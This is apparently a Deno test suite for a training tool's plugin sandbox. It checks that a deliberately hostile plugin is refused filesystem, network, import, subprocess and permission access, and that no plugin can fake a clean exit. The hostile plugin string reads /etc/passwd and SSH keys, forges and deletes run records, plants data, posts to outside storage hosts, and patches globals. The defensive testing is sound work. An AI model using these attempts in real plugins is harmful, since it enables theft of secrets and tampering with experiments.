import { assertEquals, assertMatch, assertNotEquals } from "@std/assert";
import { flagsOf, project, task } from "./_project.ts";

/**
 * A plugin that tries, when it is loaded and again in a hook, what a stranger's
 * plugin might: `done` is printed for what it could do.
 */
const HOSTILE = `
import process from "node:process";

const attempts = {
  "read a file of the system": () => Deno.readTextFileSync("/etc/passwd"),
  "read it as a module": () => import("file:///etc/passwd", { with: { type: "text" } }),
  "read the user's keys": () => [...Deno.readDirSync(process.cwd() + "/../.ssh")],
  "read the environment": () => Deno.env.get("HOME"),
  "alter another run": () => Deno.writeTextFileSync("runs/earlier/run.json", "forged"),
  "remove another run": () => Deno.removeSync("runs/earlier", { recursive: true }),
  "move another run": () => Deno.renameSync("runs/earlier", "runs/gone"),
  "begin another run": () => Deno.mkdirSync("runs/forged"),
  "link out of its run": () => Deno.symlinkSync("../earlier", "runs/link"),
  "plant data": () => Deno.writeTextFileSync("data/mnist/train-images-idx3-ubyte", "planted"),
  "alter the experiment": () => Deno.writeTextFileSync("experiment.ts", "forged"),
  "alter the plugins": () => Deno.writeTextFileSync("plugins/more.ts", "forged"),
  "send to a storage host": () => fetch("https://storage.googleapis.com/upload", { method: "POST", body: "x" }),
  "send to the other one": () => fetch("http://fashion-mnist.s3-website.eu-central-1.amazonaws.com/", { method: "PUT", body: "x" }),
  "connect to it": () => Deno.connect({ hostname: "storage.googleapis.com", port: 443 }),
  "send to the monitor's port": () => fetch("http://localhost:9000/"),
  "import code from the net": () => import("https://example.com/code.js"),
  "import what Deno allows by default": () => import("https://raw.githubusercontent.com/code.js"),
  "import a package from npm": () => import("npm:@hookloop-hostile/not-there@1"),
  "import a package from JSR": () => import("jsr:@hookloop-hostile/not-there@1"),
  "run a program": () => new Deno.Command("true").outputSync(),
  "ask for permissions": async () => {
    for (const name of ["read", "write", "net", "env", "run", "import"]) {
      const { state } = await Deno.permissions.request({ name });
      if (state === "granted") return;
    }
    throw new Error("none was granted");
  },
  "do it from a worker": () => new Promise((resolve, reject) => {
    const code = 'try { Deno.writeTextFileSync("runs/earlier/run.json", "forged"); postMessage(true) } catch { postMessage(false) }';
    const worker = new Worker("data:text/javascript," + encodeURIComponent(code), { type: "module" });
    worker.onmessage = ({ data }) => { worker.terminate(); data ? resolve() : reject(new Error("refused")); };
    worker.onerror = (event) => { event.preventDefault(); reject(new Error("refused")); };
  }),
};
const patches = {
  "patch fetch": () => globalThis.fetch = () => {},
  "patch Deno": () => Deno.writeTextFileSync = () => {},
  "patch JSON": () => JSON.stringify = () => "forged",
  "patch Math": () => Math.random = () => 0,
  "patch every object": () => { Object.prototype.polluted = true; },
  "patch a function": () => Object.entries = () => [],
  "patch a prototype": () => Object.prototype.toString = () => "forged",
  "redefine a global": () => Object.defineProperty(globalThis, "Deno", { value: {} }),
  "swallow the end": () => globalThis.dispatchEvent = () => true,
};

async function tryAll(when, attempts) {
  const lines = [];
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      lines.push(when + ": done: " + what);
    } catch (error) {
      lines.push(when + ": refused: " + what + ": " + error.message.split("\\n")[0]);
    }
  }
  return lines;
}
const loaded = await tryAll("loaded", attempts);

export default {
  name: "hostile",
  async onTrainBegin(_logs, run) {
    for (const line of loaded) run.print(line);
    for (const line of await tryAll("hook", { ...attempts, ...patches })) run.print(line);
  },
};
`;

const HONEST = `
export default {
  name: "honest",
  onTrainEnd(_logs, run) {
    run.print("honest sees " + JSON.stringify({ polluted: ({}).polluted, entries: Object.entries({ a: 1 }).length }));
  },
};
`;

/** What the attempts came to, by name: when they were refused, and when not. */
function outcomes(out: string): { refused: Set<string>; done: string[] } {
  const found = [...out.matchAll(/^(\w+): (done|refused): ([^:\n]+)/gm)];
  const of = (how: string) =>
    found.filter((match) => match[2] === how).map(([, , , what]) => what!);
  return { refused: new Set(of("refused")), done: of("done") };
}

const UNTOUCHED = ["earlier"];

async function assertUntouched(dir: string): Promise<void> {
  const runs = [...Deno.readDirSync(`${dir}/runs`)].map(({ name }) => name);
  assertEquals(runs.filter((name) => !name.startsWith("tiny-")), UNTOUCHED);
  assertEquals(await Deno.readTextFile(`${dir}/runs/earlier/run.json`), "{}");
  const data = [...Deno.readDirSync(`${dir}/data/mnist`)];
  assertEquals(data.map(({ name }) => name), ["note.txt"]);
  assertEquals(
    [...Deno.readDirSync(`${dir}/plugins`)].map(({ name }) => name).sort(),
    ["honest.ts", "hostile.ts"],
  );
}

const FILES = { "plugins/hostile.ts": HOSTILE, "plugins/honest.ts": HONEST };
const ARGS = ["experiment.ts", "--backend", "cpu", "--without", "progress"];

Deno.test("a hostile plugin is refused all it tries, with the permissions of the task", async () => {
  const dir = await project(FILES);
  const { code, out, err } = await task("train", ARGS, dir);
  const { refused, done } = outcomes(out);
  assertEquals(done, [], out);
  assertEquals(refused.size, 32, out + err);
  assertMatch(out, /honest sees {"entries":1}/);
  assertEquals(code, 0, err);
  await assertUntouched(dir);
  // Packages of npm need no permission: only this keeps Deno from fetching them.
  assertEquals(flagsOf("train").includes("--cached-only"), true);
});

Deno.test("isolated, it is refused all it tries too; its patches reach nobody else", async () => {
  const dir = await project(FILES);
  const { code, out, err } = await task(
    "train",
    [...ARGS, "--isolate", "hostile"],
    dir,
  );
  const { refused, done } = outcomes(out);
  assertEquals(done.filter((what) => !/patch|redefine|swallow/.test(what)), []);
  assertEquals(refused.size + done.length >= 32, true, out + err);
  assertMatch(out, /honest sees {"entries":1}/);
  assertEquals(code, 0, err);
  await assertUntouched(dir);
});

/** Ways to end the process as if all had gone well. */
const ENDS: Readonly<Record<string, string>> = {
  "Deno.exit": "Deno.exit(0)",
  "process.exit": "process.exit(0)",
  "a listener for unload":
    "addEventListener('unload', () => Deno.exitCode = 0); Deno.exit(0)",
  "no unload at all":
    "globalThis[Symbol.for('Deno.isUnloadDispatched')] = true; Deno.exit(0)",
  "the exit code of a failed run":
    "addEventListener('unload', () => Deno.exitCode = 0); throw new Error('x')",
};

Deno.test("no plugin ends a run with exit code 0", async (t) => {
  for (const [how, code] of Object.entries(ENDS)) {
    const plugin = `
import process from "node:process";
void process;
export default { name: "leaving", onEpochBegin() { ${code}; } };
`;
    const dir = await project({ "plugins/leaving.ts": plugin });
    for (const isolated of [false, true]) {
      await t.step(`${how}${isolated ? ", isolated" : ""}`, async () => {
        const { code, err } = await task("train", [
          ...ARGS,
          ...isolated ? ["--isolate", "all"] : [],
        ], dir);
        assertEquals(code, 1, err);
        assertNotEquals(err, "");
      });
    }
  }
});
